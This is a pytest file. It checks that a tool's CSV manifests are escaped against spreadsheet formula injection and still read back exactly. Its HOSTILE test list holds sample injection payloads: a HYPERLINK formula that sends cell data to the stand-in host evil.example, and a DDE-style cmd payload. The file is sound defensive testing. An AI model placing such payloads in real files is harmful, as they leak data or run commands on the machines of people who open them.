"""CSV written for a person (a backfill's failed.csv, CSV manifests) opens in a spreadsheet
as text, never as a formula (OWASP's CSV-injection guidance: no cell starts with =, +, -, @, tab or CR),
and reads back exactly: `autotag backfill --manifest failed.csv` gets each original key and version id."""

from __future__ import annotations

import csv
import io

import pytest

from autotag.inventory import manifest_line, manifest_rows

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-1-1",
    "-2+3",
    "\tx",
    "\rx",
    "'quoted",
    "''twice",
    "plain/key.jpg",
    "a=b",
]


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


@pytest.mark.parametrize("key", HOSTILE)
@pytest.mark.parametrize("version", [None, "CAEQNhiBgMDJgZCA0BYiIDc4", "=1+1", "-1", "'v", "@x"])
def test_a_manifest_line_is_no_formula_and_reads_back_exactly(key: str, version: str | None) -> None:
    line = manifest_line("autotag-demo", key, version)
    assert not any(cell.startswith(FORMULA_STARTS) for cell in cells(line)), line
    ((_, row),) = manifest_rows(io.StringIO(line), "failed.csv")
    assert (row.bucket, row.key, row.version_id) == ("autotag-demo", key, version)
